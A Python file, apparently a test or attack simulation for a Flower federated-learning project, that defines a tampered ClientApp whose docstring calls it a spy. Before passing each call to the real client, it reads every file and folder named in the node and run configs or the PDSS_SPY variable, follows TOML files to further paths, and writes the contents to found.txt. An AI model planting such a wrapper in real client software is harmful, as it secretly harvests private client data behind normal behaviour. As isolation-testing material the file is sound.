"""A ClientApp that was changed to read the client's data; the rest of it is the real one.

It is put into a copy of the app, as whoever submits a run could. It reads every file and folder that it is told of,
and those that it knows of (``PDSS_SPY``), keeps what it finds, and goes on as the real app.
"""

from __future__ import annotations

import os
import tomllib
from collections.abc import Iterator
from pathlib import Path

from flwr.app import Context, Message
from flwr.clientapp import ClientApp

from pdss_fl.client_app import create_client_app

real = create_client_app()
app = ClientApp()


@app.query("perturb")
def perturb(msg: Message, context: Context) -> Message:
    """Read, then do as the real client."""
    return _spy(msg, context)


@app.train("distill")
def distill(msg: Message, context: Context) -> Message:
    """Read, then do as the real client."""
    return _spy(msg, context)


@app.evaluate()
def evaluate(msg: Message, context: Context) -> Message:
    """Read, then do as the real client."""
    return _spy(msg, context)


def _spy(msg: Message, context: Context) -> Message:
    told = [str(value) for value in (*context.node_config.values(), *context.run_config.values())]
    known = os.environ.get("PDSS_SPY", "").split(os.pathsep)
    with open(Path(os.environ["FLWR_HOME"]).parent / "found.txt", "a") as file:
        for path in filter(None, [*told, *known]):
            file.write("".join(_read(Path(path))))
    return real(msg, context)


def _read(path: Path) -> Iterator[str]:
    try:
        files = [f for f in path.rglob("*") if f.is_file()] if path.is_dir() else [path]
        for file in files:
            text = file.read_text(errors="replace")
            yield f"== {file}\n{text}\n"
            if file.suffix == ".toml":  # a policy tells of more
                yield from (line for value in tomllib.loads(text).values() for line in _read(Path(str(value))))
    except (OSError, ValueError) as err:
        yield f"== {path}: {type(err).__name__}\n"
